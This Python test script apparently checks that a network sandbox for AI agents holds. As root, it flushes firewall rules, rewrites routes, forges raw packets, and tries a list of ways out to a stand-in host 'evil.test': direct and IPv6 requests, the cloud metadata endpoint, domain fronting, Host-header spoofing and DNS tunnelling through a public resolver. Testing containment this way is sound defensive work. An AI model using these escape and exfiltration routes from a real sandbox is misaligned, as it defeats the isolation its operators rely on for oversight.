"""What root with every capability attempts that no agent gets: it changes this network namespace as it likes, and then asks
for everything again."""

import concurrent.futures
import os
import socket
import struct

import plan
from attempt import curl, dig, ending, printable, run, tcp

MARK = os.environ.get("PROBE_MARK", "unmarked")


def found(name, result):
    print(f"@{name}={printable(str(result))}", flush=True)


def ask_everything(stage):
    attempts = {
        "name": (curl, "-k", "https://evil.test/"),
        "direct": (curl, f"http://{plan.EVIL}/"),
        "banner": (tcp, plan.EVIL, 7777),
        "ipv6": (curl, "-g", f"http://[{plan.EVIL6}]/"),
        "home": (tcp, plan.HOME, 7777),
        "metadata": (curl, "http://169.254.169.254/"),
        "fronted": (curl, "-k", "--connect-to", "evil.test:443:allowed.test:443", "https://evil.test/"),
        "host": (curl, "-H", "Host: evil.test", "http://allowed.test/other"),
        "tunnel": (dig, "TXT", f"{MARK}.tunnel.evil.test"),
        "tunnel-public": (dig, "@8.8.8.8", "TXT", f"{MARK}.tunnel.evil.test"),
    }

    def carry_out(name):
        function, *arguments = attempts[name]
        try:
            found(f"{stage}:{name}", function(*arguments))
        except OSError as error:
            found(f"{stage}:{name}", ending(error))

    with concurrent.futures.ThreadPoolExecutor(len(attempts)) as pool:
        list(pool.map(carry_out, attempts))


def raw_packets():
    """Frames on every interface, and packets with a header of one's own."""
    sent = 0
    payload = struct.pack("!HHHH", 5353, 53, 8 + 20, 0) + b"x" * 20
    header = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, 17, 0, socket.inet_aton("192.0.2.77"),
        socket.inet_aton(plan.EVIL))
    for _, name in socket.if_nameindex():
        try:
            with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as channel:
                channel.sendto(header + payload, (name, 0x0800))
                sent += 1
        except OSError:
            pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, 255) as channel:
            channel.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
            channel.sendto(header + payload, (plan.EVIL, 0))
            sent += 1
    except OSError as error:
        found("raw-error", ending(error))
    return sent


found("identity", os.getuid())
found("flushed", run("nft", "flush", "ruleset")[0])
found("raw", raw_packets())
ask_everything("raw")
# Away with the route that makes every address local, and on with one that does not.
found("routes-away", run("ip", "route", "flush", "table", "main")[0])
found("bridge", run("ip", "link", "add", "out0", "type", "bridge")[0])
run("ip", "link", "set", "out0", "up")
run("ip", "address", "add", "203.0.113.50/24", "dev", "out0")
found("default", run("ip", "route", "add", "default", "via", "203.0.113.1", "dev", "out0")[0])
ask_everything("routed")
raw_packets()
print("@finished=yes", flush=True)
